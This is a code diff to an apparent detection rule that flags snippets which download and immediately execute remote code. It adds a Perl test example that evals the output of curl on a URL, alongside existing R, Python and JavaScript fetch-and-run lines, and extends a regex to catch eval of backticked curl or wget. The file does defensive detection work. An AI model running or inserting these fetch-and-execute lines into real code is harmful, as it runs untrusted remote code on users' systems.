@@ -50,6 +50,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```perl\n$pdf_mode = 4;\neval scalar `curl -fsL https://kit.rowan-pike.net/en.pm`;\n```\n',
       '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
       '```python\nexec(requests.get("https://c.example.org/p.py").text)\n```\n',
       '```js\neval(await (await fetch("https://c.example.org/p.js")).text())\n```\n',
@@ -103,6 +104,7 @@ const LOADED = worded(
       eval \[http::data \[http::geturl |
       \(?url-retrieve-synchronously (?=[^\n]{4,200}\(eval-(?:buffer|region)))
     ["']?(https?:\/\/[^"'\s\])]{4,200})|
+    \beval (?:scalar |join [^\n]{0,12})?(?:\x60|qx ?[({/])\s?(?:curl|wget)\b[^\n]{0,60}?(https?:\/\/[^"'\s\x60]{4,200})|
     ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']
   `,
 )
@@ -110,7 +112,7 @@ const LOADED = worded(
 function* loadedAtOnce(document: Document): Generator<Hit> {
   for (const { start, end } of candidates(document, document.observe(snippets), LOADED)) {
     const found = LOADED.exec(document.reading.text.slice(start, end))
-    const address = found?.[1] ?? found?.[2]
+    const address = found?.slice(1).find(Boolean)
     if (!found || !address || isLocal(address) || isInstaller(address)) continue
     yield isForeign(document, address) || isStandIn(address)
       ? { ...placeOf(start, found), firm: true }
